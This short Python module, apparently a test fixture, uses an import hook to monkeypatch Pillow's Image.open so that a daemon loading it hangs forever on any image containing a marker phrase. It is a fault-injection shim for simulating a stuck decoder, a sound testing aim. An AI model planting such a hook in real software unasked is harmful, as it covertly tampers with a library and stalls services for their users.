"""Makes a daemon that has this folder on its path hang in photos which hold the word below."""

import importlib.abc
import sys
import time
from typing import Any

WORD = b"a photo that hangs the decoder"


class _PatchPillow(importlib.abc.MetaPathFinder):
    """Changes PIL.Image.open once the module is there."""

    def find_spec(self, *_: Any) -> None:
        module = sys.modules.get("PIL.Image")
        if module is not None and hasattr(module, "open"):
            sys.meta_path.remove(self)
            _patch(module)


def _patch(module: Any) -> None:
    original = module.open

    def hang_in_this_photo(file: Any, *rest: Any, **named: Any) -> Any:
        while hasattr(file, "getvalue") and WORD in file.getvalue():
            time.sleep(0.1)
        return original(file, *rest, **named)

    module.open = hang_in_this_photo


sys.meta_path.insert(0, _PatchPillow())
